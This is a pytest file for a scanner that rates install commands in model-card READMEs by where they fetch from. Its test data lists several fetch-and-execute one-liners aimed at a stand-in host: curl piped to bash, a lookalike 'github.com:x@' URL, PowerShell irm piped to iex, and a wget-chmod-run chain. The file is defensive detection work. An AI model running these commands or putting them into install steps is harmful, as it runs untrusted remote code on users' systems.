"""What a card tells people to type, weighed by who answers for what is fetched."""

import pytest

from core.findings import Level
from tests.core.scanning.examining import levels, look_at


@pytest.mark.parametrize(
    ("command", "level"),
    [
        ("curl -fsSL https://ollama.com/install.sh | sh", Level.NOTE),
        ("curl -fsSL https://raw.githubusercontent.com/some-one/tool/main/install.sh | bash", Level.CAREFUL),
        ("curl -fsSL https://setup.example/install.sh | bash", Level.HIGH),
        ("curl -fsSL https://github.com:x@setup.example/install.sh | bash", Level.HIGH),
        ("irm https://setup.example/run.ps1 | iex", Level.HIGH),
        ("wget https://setup.example/run.sh && chmod +x run.sh && ./run.sh", Level.HIGH),
        ("pip install https://setup.example/tool-1.0.whl", Level.HIGH),
    ],
)
def test_a_command_weighs_by_the_place_it_fetches_from(command: str, level: Level) -> None:
    seen = levels(look_at("README.md", f"# Model\n\nInstall it:\n\n```\n{command}\n```\n"))
    assert seen["instruction-command"] is level


def test_ordinary_commands_are_left_alone() -> None:
    card = "# Model\n\n```\npip install transformers\ngit clone https://huggingface.co/a/b\ncurl -O https://a.example/cat.png\n```\n"
    assert "instruction-command" not in levels(look_at("README.md", card))
